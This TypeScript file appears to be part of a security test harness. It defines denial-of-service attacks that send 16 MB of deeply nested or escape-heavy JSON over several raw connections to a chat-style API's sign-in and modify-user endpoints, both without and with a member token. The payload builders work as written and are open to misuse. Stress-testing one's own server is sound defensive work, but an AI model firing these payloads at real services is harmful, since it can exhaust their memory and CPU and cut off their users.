import type { Attack, AttackedServer } from './attack.ts'
import { AttackerConnection, combineConnections } from './attacker-connection.ts'

const CONNECTIONS = 4
const BYTES = 16_000_000

const fill = (unit: string): string => `[${unit.repeat(Math.floor(BYTES / unit.length) - 1)}[]]`
/** Wide, deep, and within an operation's limits: nearly all of the parsed result is small objects. */
const BODIES = [
  fill('[[],{}],'),
  '['.repeat(BYTES),
  `{"avatar":${fill('{"a":0},')}}`,
  `{"avatar":"${'\\"'.repeat(BYTES / 2 - 9)}"}`,
].map((body) => Buffer.from(body))

interface Post {
  readonly head: string
  readonly body: Buffer
}

const headOf = (path: string, method: string, token: string | null, body: Buffer): string =>
  `${method} /api/v10${path} HTTP/1.1\r\nHost: localhost\r\n${token === null ? '' : `Authorization: ${token}\r\n`}Content-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`

async function pressWith({ ports }: AttackedServer, requests: readonly Post[]) {
  const connections = requests.flatMap((request) =>
    Array.from({ length: CONNECTIONS }, (_, n) => ({
      request,
      connection: new AttackerConnection(ports[n % ports.length] ?? 0),
    })),
  )
  await Promise.all(connections.map(({ connection, request }) => connection.send(request.head, request.body)))
  return combineConnections(connections.map(({ connection }) => connection))
}

/** To operations without authentication. */
export const nestedJsonBeforeSignIn: Attack = {
  name: 'nested-json-before-sign-in',
  description: '16 MB of brackets to Sign In, without a token',
  launch: (server) =>
    pressWith(
      server,
      BODIES.map((body) => ({ head: headOf('/auth/login', 'POST', null, body), body })),
    ),
}

/** To an operation that accepts a picture, and thus the largest body, from an account. */
export const nestedJson: Attack = {
  name: 'nested-json',
  description: '16 MB of brackets to Modify Current User, signed in',
  launch: (server) =>
    pressWith(
      server,
      BODIES.map((body) => ({ head: headOf('/users/@me', 'PATCH', server.memberToken, body), body })),
    ),
}
